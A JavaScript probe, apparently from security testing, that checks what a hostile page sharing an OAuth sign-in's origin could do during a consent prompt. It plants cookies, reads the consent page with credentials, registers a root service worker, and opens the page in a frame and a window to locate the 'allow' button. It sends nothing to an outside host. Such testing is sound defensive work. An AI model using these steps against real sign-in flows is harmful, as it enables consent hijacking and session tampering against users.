// What a page at the sign-in's origin would do while somebody is asked for consent. Says how far each attempt came.
async function attack(consent, cookie) {
  const said = { origin: self.origin };
  const attempt = async (name, work) => {
    const late = new Promise((done) => { setTimeout(() => done('nothing happened'), 3000); });
    try {
      said[name] = await Promise.race([work(), late]);
    } catch (error) {
      said[name] = `${error.name}: ${error.message}`.slice(0, 160);
    }
  };
  const press = (page, where) => {
    const button = page && [...page.querySelectorAll('button')].find((one) => /allow/i.test(one.textContent));
    return button ? `WORKED: found ${button.textContent.trim()} in the ${where}` : `no button in the ${where}`;
  };
  await attempt('cookie', () => {
    document.cookie = `${cookie}=planted; path=/oauth`;
    document.cookie = 'tossed=planted; path=/';
    return document.cookie.includes('tossed') ? 'WORKED: cookies can be set' : 'no cookie';
  });
  await attempt('fetch', async () => {
    const page = await (await fetch(consent, { credentials: 'include' })).text();
    return /<button[^>]*>[^<]*allow/i.test(page) ? 'WORKED: read the consent page' : `read ${page.slice(0, 40)}`;
  });
  await attempt('worker', async () => {
    const worker = await navigator.serviceWorker.register('sw.js', { scope: '/' });
    await worker.unregister();
    return `WORKED: registered for ${worker.scope}`;
  });
  await attempt('frame', () => new Promise((done) => {
    const frame = document.createElement('iframe');
    frame.onload = () => { try { done(press(frame.contentDocument, 'frame')); } catch (error) { done(error.name); } };
    frame.src = consent;
    document.body.append(frame);
  }));
  await attempt('window', () => new Promise((done, failed) => {
    const opened = window.open(consent);
    if (!opened) return done('no window');
    setTimeout(() => { try { done(press(opened.document, 'window')); } catch (error) { failed(error); } }, 1500);
    return undefined;
  }));
  return said;
}
